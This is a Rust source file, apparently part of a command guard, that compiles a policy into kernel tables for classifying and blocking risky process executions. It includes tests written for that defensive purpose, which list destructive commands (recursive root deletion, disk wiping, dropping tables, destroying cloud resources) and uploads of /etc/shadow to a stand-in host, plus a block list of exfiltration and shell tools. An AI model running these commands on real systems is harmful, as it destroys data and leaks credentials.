//! Compiling what the policy says into the kernel's tables.
//!
//! The kernel model is deliberately small: a mode per cgroup id, per uid, one for
//! non-interactive processes and a default; per-class actions; the signatures of
//! `signatures.rs` with the policy's protected paths, data directories and sensitive
//! files as path facts. [`Compiled`] also evaluates those tables in user space, so the
//! agent can state the kernel's own verdict for any argv.

use std::collections::{BTreeMap, HashMap};

use guard_common::{
    enforce::{EnforceConfig, action, decide, decision, intent, mode, rule_kind},
    matcher::{
        CLAUSES, Clause, KernelRule, RULES_PER_BINARY, RuleFilter, RuleSet, Scan, Tables, basename, hash_keyword, hash_name,
        hash_path, letters, path_bit, rule_key, scan_blob,
    },
};

use super::signatures::{DEV_SAFE, LOG_PATHS, SIGNATURES, Signature};

/// What the kernel needs from a policy.
#[derive(Clone, Debug)]
pub struct PolicyFacts {
    pub default_mode: u8,
    /// `mode::UNSET` when the policy has no non-interactive selector.
    pub non_interactive_mode: u8,
    pub uid_modes: Vec<(u32, u8)>,
    pub cgroup_modes: Vec<(u64, u8)>,
    pub protected_paths: Vec<String>,
    pub data_dirs: Vec<String>,
    pub sensitive_files: Vec<String>,
    /// Logs and histories (erasing them is audit tampering).
    pub log_paths: Vec<String>,
    /// Action per intent class.
    pub actions: [u8; intent::COUNT],
    /// Classes with exceptions: only the agent can apply those, so their signatures
    /// ask it (confirm rules) instead of denying alone.
    pub excepted: [bool; intent::COUNT],
    /// Low 32 bits of the policy's hash.
    pub version: u32,
}

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum CompileError {
    #[error("the signatures use {0} keywords; the kernel tables hold 63 (one bit marks hold words)")]
    TooManyKeywords(usize),
    #[error("binary {0} has more than {RULES_PER_BINARY} rules")]
    TooManyRules(String),
    #[error("signature {0} has more than {CLAUSES} clauses")]
    TooManyClauses(String),
}

/// The kernel's tables, ready to be written to the maps.
#[derive(Clone, Debug, Default)]
pub struct Compiled {
    pub rules: HashMap<u64, RuleSet>,
    /// `rule_id` → "signature name".
    pub rule_names: Vec<String>,
    pub keywords: HashMap<u64, u64>,
    pub paths: HashMap<u64, u32>,
    pub uid_modes: HashMap<u32, u8>,
    pub cgroup_modes: HashMap<u64, u8>,
    pub config: Option<EnforceConfig>,
}

impl Tables for Compiled {
    fn keyword(&self, hash: u64) -> u64 {
        self.keywords.get(&hash).copied().unwrap_or(0)
    }
    fn path(&self, hash: u64) -> u32 {
        self.paths.get(&hash).copied().unwrap_or(0)
    }
}

/// The kernel's verdict on one argv, computed in user space with the same code.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct KernelVerdict {
    pub decision: u8,
    pub class: u8,
    pub rule: String,
}

impl Compiled {
    /// The presence filter of `rules`' keys (the kernel's `RULE_FILTER`).
    pub fn rule_filter(&self) -> RuleFilter {
        let mut filter = RuleFilter::EMPTY;
        for &key in self.rules.keys() {
            filter.insert(key);
        }
        filter
    }

    /// What the kernel decides for `filename` run with `argv` in `mode`; `None` when no
    /// signature matches.
    pub fn verdict(&self, filename: &[u8], argv: &[Vec<u8>], mode: u8) -> Option<KernelVerdict> {
        self.verdict_skipping(filename, argv, mode, 0)
    }

    /// Like [`Self::verdict`] for the kernel's argv of a `#!` script: arguments are
    /// skipped through the one whose exact hash is `skip_through` (the script's path).
    pub fn verdict_skipping(&self, filename: &[u8], argv: &[Vec<u8>], mode: u8, skip_through: u64) -> Option<KernelVerdict> {
        let blob: Vec<u8> = argv.iter().flat_map(|a| a.iter().copied().chain([0])).collect();
        let scan: Scan = scan_blob(&blob, skip_through, self);
        let rules = self.rules.get(&rule_key(hash_name(basename(filename)), &scan))?;
        let rule = rules.first_match(&scan)?;
        if rule.kind == rule_kind::HOLD {
            return (mode == mode::STRICT).then(|| KernelVerdict {
                decision: decision::HOLD,
                class: intent::NONE,
                rule: self.rule_names.get(rule.rule_id as usize).cloned().unwrap_or_default(),
            });
        }
        let actions = self.config.map_or([action::DENY; intent::COUNT], |c| c.action);
        let decided = decide(mode, actions[rule.class as usize & 7]);
        Some(KernelVerdict {
            // Where the kernel would stop it, a confirm rule asks the agent.
            decision: if rule.kind == rule_kind::CONFIRM && decided != decision::AUDIT { decision::HOLD } else { decided },
            class: rule.class,
            rule: self.rule_names.get(rule.rule_id as usize).cloned().unwrap_or_default(),
        })
    }
}

/// Compiles the facts; `path` is the enforcement path (`enforce::path`).
pub fn compile(facts: &PolicyFacts, path: u8, agent_tgid: u32) -> Result<Compiled, CompileError> {
    let keyword_bits = keyword_bits()?;
    let mut out = Compiled { keywords: keyword_bits.iter().map(|(w, b)| (hash_keyword(w.as_bytes()), *b)).collect(), ..Compiled::default() };
    let mut per_binary: BTreeMap<String, Vec<KernelRule>> = BTreeMap::new();
    for sig in SIGNATURES {
        if sig.clauses.len() > CLAUSES {
            return Err(CompileError::TooManyClauses(sig.name.into()));
        }
        // A signature with unsure items compiles to two rules: first the signature plus
        // "one of the unsure items seen" (the agent confirms), then the signature alone.
        let confirm = if sig.unsure.is_empty() && sig.unsure_path == 0 {
            None
        } else {
            let mut clauses: Vec<&[&str]> = sig.clauses.to_vec();
            if !sig.unsure.is_empty() {
                clauses.push(sig.unsure);
            }
            if clauses.len() > CLAUSES {
                return Err(CompileError::TooManyClauses(sig.name.into()));
            }
            let rule_id = out.rule_names.len() as u16;
            out.rule_names.push(format!("{}{CONFIRM_SUFFIX}", sig.name));
            let mut rule = kernel_rule(sig, &clauses, rule_id, &keyword_bits);
            rule.kind = rule_kind::CONFIRM;
            if sig.unsure_path != 0 {
                rule.path_need = sig.unsure_path;
            }
            Some(rule)
        };
        let rule_id = out.rule_names.len() as u16;
        out.rule_names.push(sig.name.to_owned());
        let mut rule = kernel_rule(sig, sig.clauses, rule_id, &keyword_bits);
        if facts.excepted.get(sig.class as usize).copied().unwrap_or(false) {
            rule.kind = rule_kind::CONFIRM;
        }
        for bin in sig.binaries {
            let rules = per_binary.entry((*bin).to_owned()).or_default();
            rules.extend(confirm);
            rules.push(rule);
        }
    }
    // Hold triggers go last: a signature of the same binary decides first.
    let hold_id = out.rule_names.len() as u16;
    out.rule_names.push(HOLD_RULE.to_owned());
    let hold = KernelRule {
        clauses: [Clause { letters: 0, keywords: HOLD_BIT }, Clause::default(), Clause::default()],
        rule_id: hold_id,
        class: intent::NONE,
        kind: rule_kind::HOLD,
        ..KernelRule::default()
    };
    for bin in HOLD_BINARIES {
        per_binary.entry((*bin).to_owned()).or_default().push(hold);
    }
    for word in HOLD_WORDS {
        *out.keywords.entry(hash_keyword(word.as_bytes())).or_default() |= HOLD_BIT;
    }
    for (bin, rules) in per_binary {
        if rules.len() > RULES_PER_BINARY {
            return Err(CompileError::TooManyRules(bin));
        }
        let mut set = RuleSet { count: rules.len() as u32, ..RuleSet::default() };
        set.rules[..rules.len()].copy_from_slice(&rules);
        out.rules.insert(hash_name(bin.as_bytes()), set);
    }
    out.paths = path_table(facts);
    out.uid_modes = facts.uid_modes.iter().copied().collect();
    out.cgroup_modes = facts.cgroup_modes.iter().copied().collect();
    out.config = Some(EnforceConfig {
        enabled: 1,
        path,
        default_mode: facts.default_mode,
        non_interactive_mode: facts.non_interactive_mode,
        action: facts.actions,
        agent_tgid,
        policy_version: facts.version,
    });
    Ok(out)
}

/// Suffix of the name of a signature's confirm rule (reported with execs it held).
pub const CONFIRM_SUFFIX: &str = ":confirm";

/// Name of the hold trigger rule (reported with held execs).
pub const HOLD_RULE: &str = "hold/interesting-token";

/// The keyword bit of [`HOLD_WORDS`]; the signatures' keywords use the bits below it.
const HOLD_BIT: u64 = 1 << 63;

/// Binaries whose argv the kernel cannot judge alone but the classifier can: shells
/// (`-c` scripts), interpreters running inline code, SQL clients, xargs. A strict
/// identity's exec of one of them is held when its argv carries one of [`HOLD_WORDS`]
/// (as a whole argument, or a word inside one, such as `rm` in `sh -c 'rm -rf x'`).
/// busybox applets are keyed by the applet, so `busybox sh -c ...` is `sh`.
pub const HOLD_BINARIES: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "python", "python3", "perl", "ruby", "node", "php", "lua",
    "psql", "mysql", "mariadb", "sqlite3", "redis-cli", "mongosh", "xargs",
];

/// Tokens that make such a command worth the agent's judgement: destructive verbs of
/// the eight classes, the tools that carry them, and their inline-code spellings.
/// Everything else (a build's `sh -c 'make ...'`) runs without waiting.
pub const HOLD_WORDS: &[&str] = &[
    // deletion and wiping
    "rm", "rmdir", "unlink", "shred", "wipefs", "mkfs", "dd", "blkdiscard", "truncate", "find", "rsync", "rmtree",
    "remove", "removedirs", "delete", "del", "erase", "purge", "destroy", "drop", "flushall", "flushdb", "dropdatabase",
    // cloud, infrastructure, containers
    "aws", "gsutil", "gcloud", "az", "terraform", "tofu", "pulumi", "kubectl", "helm", "docker", "podman",
    // exfiltration
    "curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "ftp", "upload", "urlopen", "requests",
    // audit tampering and service disruption
    "history", "auditctl", "journalctl", "shutdown", "reboot", "halt", "poweroff", "systemctl", "service", "kill",
    "pkill", "killall", "iptables", "nft",
    // permissions
    "chmod", "chown", "chattr", "setfacl", "usermod", "passwd", "visudo", "sudoers",
    // inline code reaching the system
    "system", "exec", "popen", "subprocess", "spawn", "eval",
];

/// Bit of every keyword the signatures use (applet names included).
fn keyword_bits() -> Result<BTreeMap<String, u64>, CompileError> {
    let mut words: Vec<&str> = SIGNATURES
        .iter()
        .flat_map(|s| s.clauses.iter().flat_map(|c| c.iter().copied()).chain(s.unsure.iter().copied()))
        .filter(|w| !w.starts_with("l:"))
        .collect();
    words.sort_unstable();
    words.dedup();
    if words.len() > 63 {
        return Err(CompileError::TooManyKeywords(words.len()));
    }
    Ok(words.into_iter().enumerate().map(|(i, w)| (w.to_owned(), 1u64 << i)).collect())
}

fn kernel_rule(sig: &Signature, clauses: &[&[&str]], rule_id: u16, bits: &BTreeMap<String, u64>) -> KernelRule {
    let mut rule = KernelRule { path_need: sig.path, rule_id, class: sig.class, ..KernelRule::default() };
    for (slot, items) in rule.clauses.iter_mut().zip(clauses) {
        let mut clause = Clause::default();
        for item in *items {
            match item.strip_prefix("l:") {
                Some(set) => clause.letters |= letters(set.as_bytes()),
                None => clause.keywords |= bits.get(*item).copied().unwrap_or(0),
            }
        }
        *slot = clause;
    }
    rule
}

/// Normalises an absolute path: `//`, `.`, `..` and trailing `/` resolved.
pub fn normalize(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            p => parts.push(p),
        }
    }
    format!("/{}", parts.join("/"))
}

/// Every ancestor of a normalised path, the path itself included, root first.
fn ancestors(path: &str) -> Vec<String> {
    let mut out = vec!["/".to_owned()];
    let mut cur = String::new();
    for part in path.split('/').filter(|p| !p.is_empty()) {
        cur.push('/');
        cur.push_str(part);
        out.push(cur.clone());
    }
    out
}

fn path_table(facts: &PolicyFacts) -> HashMap<u64, u32> {
    let mut paths: HashMap<u64, u32> = HashMap::new();
    let mut mark = |p: &str, bit: u32| *paths.entry(hash_path(p.as_bytes())).or_insert(0) |= bit;
    for p in &facts.protected_paths {
        // `DIR/*`: DIR's ancestors, and each child of DIR through DIR's CHILDREN bit.
        if let Some(dir) = p.strip_suffix("/*").filter(|d| !has_glob(d)) {
            let dir = normalize(dir);
            for a in ancestors(&dir) {
                mark(&a, path_bit::ANCESTOR);
            }
            mark(&dir, path_bit::CHILDREN);
            continue;
        }
        for a in ancestors(&normalize(p)) {
            mark(&a, path_bit::ANCESTOR);
        }
    }
    for d in &facts.data_dirs {
        let d = normalize(d);
        for a in ancestors(&d) {
            mark(&a, path_bit::ANCESTOR);
        }
        mark(&d, path_bit::DATA_PREFIX);
    }
    for s in &facts.sensitive_files {
        let s = s.replacen("~/", "/root/", 1);
        if let Some(dir) = s.strip_suffix("/*").filter(|d| !has_glob(d)) {
            mark(&normalize(dir), path_bit::SENSITIVE_PREFIX);
        } else if !has_glob(&s) && s.starts_with('/') {
            mark(&normalize(&s), path_bit::SENSITIVE_FILE);
        }
    }
    for l in LOG_PATHS.iter().copied().chain(facts.log_paths.iter().map(String::as_str)) {
        if !has_glob(l) && l.starts_with('/') {
            mark(&normalize(l), path_bit::LOG_PREFIX);
        }
    }
    for d in DEV_SAFE {
        mark(&format!("/dev/{d}"), path_bit::DEV_SAFE);
    }
    paths
}

fn has_glob(s: &str) -> bool {
    s.contains(['*', '?', '['])
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use guard_common::enforce::mode;

    use crate::enforce::facts::facts;

    fn builtin() -> Compiled {
        let (f, _) = facts(&guard_policy::builtin(), Path::new("/nonexistent-cgroup-root"));
        compile(&f, guard_common::enforce::path::SIGNAL, 1).expect("the built-in policy fits the kernel tables")
    }

    /// Every name with rules passes the kernel's presence filter, and nearly every other
    /// name is stopped by it (else the filter saves the kernel nothing).
    #[test]
    fn rule_filter_keeps_every_key_and_few_others() {
        let c = builtin();
        let filter = c.rule_filter();
        assert!(c.rules.keys().all(|&k| filter.may_hold(k)));
        assert!(filter.may_hold(hash_name(b"rm")), "rm has rules");
        assert!(!Compiled::default().rule_filter().may_hold(hash_name(b"rm")), "an empty table's filter passes nothing");
        let others: Vec<u64> = (0..20_000).map(|i| hash_name(format!("no-rules-{i}").as_bytes())).filter(|k| !c.rules.contains_key(k)).collect();
        let passed = others.iter().filter(|&&k| filter.may_hold(k)).count();
        eprintln!("rule filter: {} keys, {passed} of {} other names pass", c.rules.len(), others.len());
        assert!(passed * 100 < others.len(), "{passed} of {} names without rules pass ({} keys)", others.len(), c.rules.len());
    }

    fn kernel(c: &Compiled, argv: &[&str]) -> Option<(String, String)> {
        let argv: Vec<Vec<u8>> = argv.iter().map(|a| a.as_bytes().to_vec()).collect();
        c.verdict(&argv[0], &argv, mode::ENFORCE).map(|v| (intent::NAMES[v.class as usize].to_owned(), v.rule))
    }

    #[test]
    fn destructive_commands_are_decided_by_the_kernel() {
        let c = builtin();
        let cases: &[(&[&str], &str)] = &[
            (&["rm", "-rf", "/"], "bulk_delete"),
            (&["/bin/rm", "-fr", "//etc/"], "bulk_delete"),
            (&["rm", "-r", "-f", "/usr/./"], "bulk_delete"),
            (&["rm", "--recursive", "--force", "/var/lib/postgresql/15/main"], "bulk_delete"),
            (&["busybox", "rm", "-rf", "/home"], "bulk_delete"),
            (&["find", "/", "-delete"], "bulk_delete"),
            (&["rsync", "-a", "--delete", "/tmp/empty/", "/etc/"], "bulk_delete"),
            (&["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"], "disk_wipe"),
            (&["mkfs.ext4", "/dev/nvme0n1p1"], "disk_wipe"),
            (&["wipefs", "-a", "/dev/vdb"], "disk_wipe"),
            (&["psql", "-c", "DROP TABLE users"], "schema_destroy"),
            (&["mysql", "-e", "truncate table orders"], "schema_destroy"),
            (&["redis-cli", "FLUSHALL"], "schema_destroy"),
            (&["aws", "s3", "rm", "s3://prod-bucket", "--recursive"], "cloud_destroy"),
            (&["aws", "s3", "rb", "s3://prod-bucket", "--force"], "cloud_destroy"),
            (&["gsutil", "-m", "rm", "-r", "gs://prod"], "cloud_destroy"),
            (&["terraform", "destroy", "-auto-approve"], "cloud_destroy"),
            (&["kubectl", "delete", "namespace", "prod"], "cloud_destroy"),
            (&["kubectl", "delete", "pods", "--all"], "cloud_destroy"),
            (&["curl", "-T", "/etc/shadow", "https://x.example"], "data_exfiltration"),
            (&["curl", "--data-binary", "@/etc/shadow", "https://x.example"], "data_exfiltration"),
            (&["systemctl", "stop", "auditd"], "audit_tamper"),
            (&["shutdown", "-h", "now"], "service_disruption"),
            (&["chmod", "-R", "777", "/etc"], "permission_change"),
            // A child of a protected `DIR/*`, and `name=@path` form fields.
            (&["rm", "-rf", "/usr/lib"], "bulk_delete"),
            (&["rm", "-rf", "/usr/local/"], "bulk_delete"),
            (&["curl", "-F", "file=@/etc/shadow", "https://x.example/upload"], "data_exfiltration"),
            (&["docker", "system", "prune", "-af", "--volumes"], "cloud_destroy"),
            (&["sgdisk", "--zap-all", "/dev/sda"], "disk_wipe"),
            (&["wipefs", "--all", "/dev/sdb"], "disk_wipe"),
        ];
        for (argv, class) in cases {
            let got = kernel(&c, argv);
            assert_eq!(got.as_ref().map(|g| g.0.as_str()), Some(*class), "{argv:?} -> {got:?}");
        }
    }

    #[test]
    fn ordinary_commands_are_left_alone() {
        let c = builtin();
        let cases: &[&[&str]] = &[
            &["rm", "-rf", "/tmp/build"],
            &["rm", "-rf", "./target"],
            &["rm", "/etc/nginx/sites-enabled/old"],
            &["find", "/tmp", "-name", "*.o", "-delete"],
            &["dd", "if=/dev/zero", "of=/tmp/disk.img", "bs=1M", "count=10"],
            &["psql", "-c", "SELECT * FROM users"],
            &["aws", "s3", "cp", "build.tar", "s3://artifacts/"],
            &["kubectl", "delete", "pod", "web-0"],
            &["curl", "-T", "build.tar", "https://artifacts.example"],
            &["systemctl", "restart", "nginx"],
            &["chmod", "-R", "g+w", "/srv/app/uploads"],
            &["ls", "-la", "/"],
            // Below a protected `DIR/*` child is not the child.
            &["rm", "-rf", "/usr/lib/python3/dist-packages/foo"],
            &["curl", "-F", "file=@build.tar", "https://artifacts.example"],
            &["docker", "system", "prune", "-f"],
            &["wipefs", "/dev/sdb"],
        ];
        for argv in cases {
            assert_eq!(kernel(&c, argv), None, "{argv:?}");
        }
    }
}

/// Confirm rules: a signature match that also carries an unsure item asks the agent in
/// enforce and strict mode, is recorded in audit mode, and without the item the
/// signature alone decides.
#[cfg(test)]
mod confirm_tests {
    use std::path::Path;

    use guard_common::enforce::{decision, mode};

    use super::*;
    use crate::enforce::facts::facts;

    fn verdict(argv: &[&str], m: u8) -> Option<KernelVerdict> {
        let (f, _) = facts(&guard_policy::builtin(), Path::new("/nonexistent-cgroup-root"));
        let c = compile(&f, guard_common::enforce::path::SIGNAL, 1).expect("compiles");
        let argv: Vec<Vec<u8>> = argv.iter().map(|a| a.as_bytes().to_vec()).collect();
        c.verdict(&argv[0], &argv, m)
    }

    #[test]
    fn unsure_words_and_paths_ask_the_agent() {
        let unsure: &[&[&str]] = &[
            &["psql", "-c", "DROP INDEX CONCURRENTLY idx_users_email_old"],
            &["psql", "-c", "DROP VIEW IF EXISTS report_v1"],
            &["psql", "-c", "SELECT 'DROP TABLE x'"],
            &["mysql", "-e", "DROP TEMPORARY TABLE IF EXISTS tmp_report"],
            &["shutdown", "-c"],
            &["sgdisk", "-p", "/dev/sda"],
            &["chown", "-R", "mysql:mysql", "/var/lib/mysql"],
        ];
        for argv in unsure {
            for m in [mode::ENFORCE, mode::STRICT] {
                let v = verdict(argv, m).unwrap_or_else(|| panic!("{argv:?}: no rule"));
                assert_eq!(v.decision, decision::HOLD, "{argv:?} in mode {m}");
                assert!(v.rule.ends_with(CONFIRM_SUFFIX), "{argv:?}: {}", v.rule);
                assert_ne!(v.class, intent::NONE, "{argv:?}: the class the signature would deny for");
            }
            assert_eq!(verdict(argv, mode::AUDIT).map(|v| v.decision), Some(decision::AUDIT), "{argv:?}");
        }
        // A class with exceptions: only the agent can apply them, so its signatures ask.
        let policy = guard_policy::load_str(
            "version: 1\nname: t\ndefault_mode: enforce\nintents:\n  schema_destroy: { action: deny, except: [\"DROP TABLE tmp_*\"] }\n",
            "t.yaml",
        )
        .expect("policy");
        let (f, _) = facts(&policy, Path::new("/nonexistent-cgroup-root"));
        let c = compile(&f, guard_common::enforce::path::SIGNAL, 1).expect("compiles");
        let argv: Vec<Vec<u8>> = ["psql", "-c", "DROP TABLE tmp_1"].iter().map(|a| a.as_bytes().to_vec()).collect();
        let v = c.verdict(&argv[0], &argv, mode::ENFORCE).expect("signature");
        assert_eq!((v.decision, v.rule.as_str()), (decision::HOLD, "sql-drop-truncate"));
        let argv: Vec<Vec<u8>> = ["rm", "-rf", "/etc"].iter().map(|a| a.as_bytes().to_vec()).collect();
        assert_eq!(c.verdict(&argv[0], &argv, mode::ENFORCE).map(|v| v.decision), Some(decision::DENY), "other classes still alone");
        // Without an unsure item the kernel still decides alone.
        for argv in [&["psql", "-c", "DROP TABLE users"][..], &["shutdown", "-h", "now"], &["chown", "-R", "nobody", "/etc"]] {
            let v = verdict(argv, mode::ENFORCE).expect("signature");
            assert_eq!((v.decision, v.rule.ends_with(CONFIRM_SUFFIX)), (decision::DENY, false), "{argv:?}");
        }
    }
}

#[cfg(test)]
mod hold_tests {
    use std::path::Path;

    use guard_common::enforce::{decision, mode};

    use super::*;
    use crate::enforce::facts::facts;

    fn decision_of(argv: &[&str], m: u8) -> Option<u8> {
        let (f, _) = facts(&guard_policy::builtin(), Path::new("/nonexistent-cgroup-root"));
        let c = compile(&f, guard_common::enforce::path::SIGNAL, 1).unwrap();
        let argv: Vec<Vec<u8>> = argv.iter().map(|a| a.as_bytes().to_vec()).collect();
        c.verdict(&argv[0], &argv, m).map(|v| v.decision)
    }

    #[test]
    fn strict_identities_hold_scripts_with_interesting_tokens() {
        let held: &[&[&str]] = &[
            &["sh", "-c", "cd /srv && rm -rf data"],
            &["/bin/bash", "-c", "for d in a b; do rm -r \"$d\"; done"],
            &["python3", "-c", "import shutil; shutil.rmtree('/srv/data')"],
            &["psql", "-c", "delete from users"],
            &["busybox", "sh", "-c", "dd if=/dev/zero of=/dev/vda"],
            &["xargs", "rm", "-rf"],
        ];
        for argv in held {
            assert_eq!(decision_of(argv, mode::STRICT), Some(decision::HOLD), "{argv:?}");
        }
        // A signature of the same binary decides before the hold trigger.
        assert_eq!(decision_of(&["psql", "-c", "DROP TABLE users"], mode::STRICT), Some(decision::DENY));
    }

    #[test]
    fn ordinary_scripts_and_other_modes_are_not_held() {
        for argv in [&["sh", "-c", "make -j2 && ./configure --prefix=/usr"][..], &["bash", "-c", "echo hello > out.txt"], &["python3", "-c", "print(1)"]] {
            assert_eq!(decision_of(argv, mode::STRICT), None, "{argv:?}");
        }
        for m in [mode::ENFORCE, mode::AUDIT] {
            assert_eq!(decision_of(&["sh", "-c", "rm -rf data"], m), None, "hold is for strict only");
        }
    }
}
